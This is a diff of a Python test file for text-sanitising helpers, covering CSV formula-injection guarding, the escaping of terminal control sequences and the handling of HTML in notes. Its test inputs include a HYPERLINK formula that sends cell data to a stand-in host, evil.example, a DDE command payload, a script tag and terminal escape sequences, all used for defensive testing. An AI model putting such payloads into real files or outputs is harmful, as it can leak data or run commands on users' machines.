@@ -110,13 +110,19 @@ def test_html_text_escapes_markup_and_replaces_controls() -> None:
 
 @pytest.mark.parametrize(
     "cell",
-    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"],
 )
 def test_csv_cell_makes_every_formula_text(cell: str) -> None:
     guarded = csv_cell(cell)
     assert guarded == "'" + cell
     (row,) = csv.reader(io.StringIO(_csv_row(guarded)))
     assert row == [guarded]
+
+
+def test_csv_cell_writes_controls_as_escapes() -> None:
+    # A note author's name reached the terminal that printed the CSV as a raw escape sequence.
+    assert csv_cell("=HYPERLINK(1) Eve \x1b[31m") == "'=HYPERLINK(1) Eve \\x1b[31m"
+    assert csv_cell("\r=1") == "\\r=1"  # a carriage return is no formula's start once written out
 
 
 def test_csv_cell_leaves_ordinary_text_alone() -> None:
@@ -132,14 +138,6 @@ def _csv_row(cell: str) -> str:
     buffer = io.StringIO()
     csv.writer(buffer).writerow([cell])
     return buffer.getvalue()
-
-
-def test_a_note_keeps_its_markdown_but_no_html_and_no_escape() -> None:
-    from cyberread.engine.text.safe import markdown_note
-
-    shown = markdown_note("*mine* [link](x) <script>alert(1)</script> \x1b]52;c;eA==\x07")
-    assert shown.startswith("*mine* [link](x) &lt;script&gt;")
-    assert "\x1b" not in shown and "\\x1b" in shown and "<" not in shown
 
 
 # Plain ASCII with the unsafe characters of each kind and safe ones outside ASCII among it, and a lone
